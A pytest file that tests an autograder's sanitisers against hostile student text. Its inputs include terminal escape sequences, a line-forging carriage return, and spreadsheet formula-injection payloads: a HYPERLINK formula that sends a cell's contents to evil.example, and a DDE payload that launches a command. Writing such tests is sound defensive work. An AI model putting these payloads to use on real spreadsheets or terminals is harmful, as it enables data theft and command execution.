"""`engine.safe_text`: hostile student text in, the exact safe text out."""

import pytest

from autograder.engine.safe_text import csv_cell, terminal_line, terminal_text
from autograder.engine.student import StudentError


@pytest.mark.parametrize("text, safe", [
    pytest.param("plain text\n  indented\tcolumn", "plain text\n  indented\tcolumn", id="newline-and-tab-kept"),
    pytest.param("a\x1b[2Jb", "ab", id="csi-clear-screen"),
    pytest.param("\x1b[31mred\x1b[0m", "red", id="csi-colour"),
    pytest.param("x\x1b[?1049hy", "xy", id="csi-private-mode"),
    pytest.param("\x1b]0;owned\x07title", "title", id="osc-window-title-bel"),
    pytest.param("\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "link", id="osc-hyperlink-st"),
    pytest.param("a\x1bPq#0;2;0;0;0\x1b\\b", "ab", id="dcs-sixel"),
    pytest.param("a\x1bcb\x1b(0c", "abc", id="two-byte-esc-reset-and-charset"),
    pytest.param("a\x9b2Jb", "ab", id="8-bit-csi"),
    pytest.param("bell\x07 nul\x00 bs\x08 del\x7f vt\x0b ff\x0c", "bell nul bs del vt ff", id="c0-and-del"),
    pytest.param("a\x85b\x80c\x91", "abc", id="c1"),
    pytest.param("score 10\rscore 99", "score 10\nscore 99", id="lone-cr-cannot-overwrite"),
    pytest.param("a\r\nb", "a\nb", id="crlf"),
    pytest.param("abc\u202edcba\u2066x\u2069\u200f", "abcdcbax", id="bidi-overrides"),
    pytest.param("naïve Ünïcode ✓", "naïve Ünïcode ✓", id="unicode-kept"),
    pytest.param("trailing \x1b", "trailing ", id="lone-esc"),
])
def test_terminal_text(text, safe):
    assert terminal_text(text) == safe


@pytest.mark.parametrize("text, safe", [
    pytest.param("ada\nbob 100/100", "ada bob 100/100", id="newline-cannot-forge-a-line"),
    pytest.param("a\tb\rc", "a b c", id="tab-and-cr"),
    pytest.param("x\x1b[1A\x1b[2Kgone", "xgone", id="cursor-up-erase-line"),
])
def test_terminal_line(text, safe):
    assert terminal_line(text) == safe


@pytest.mark.parametrize("text, safe", [
    pytest.param('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
                 id="equals"),
    pytest.param("+1", "'+1", id="plus"),
    pytest.param("-2", "'-2", id="minus"),
    pytest.param("@cmd", "'@cmd", id="at"),
    pytest.param("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", id="dde"),
    pytest.param("\t=1+1", "' =1+1", id="leading-tab"),
    pytest.param("\r=1+1", "' =1+1", id="leading-cr"),
    pytest.param("\n+1", "' +1", id="leading-lf"),
    pytest.param("  =1+1", "'  =1+1", id="spaces-then-equals"),
    pytest.param("\x1b[31m=1+1", "'=1+1", id="escape-hides-equals"),
    pytest.param("\x00@SUM(A1)", "'@SUM(A1)", id="nul-hides-at"),
    pytest.param("a\x1b[2Jb\nc", "ab c", id="controls-stripped-one-line"),
    pytest.param("ada", "ada", id="plain-name-unchanged"),
    pytest.param("o'brien-smith=1", "o'brien-smith=1", id="signs-inside-are-fine"),
    pytest.param("", "", id="empty"),
])
def test_csv_cell(text, safe):
    assert csv_cell(text) == safe


def test_student_exception_message_loses_escapes_and_controls():
    error = StudentError("Value\x1b[2JError", "bad\x1b[2J value\x07\x00 here\r\x1b]0;t\x07end",
                         ["ch02_forward.py, line 3, in softmax\x1b[31m", "    return x\x08\x08"], "softmax")
    assert error.describe() == ("softmax raised ValueError: bad value here\nend\n"
                                "  ch02_forward.py, line 3, in softmax\n      return x")
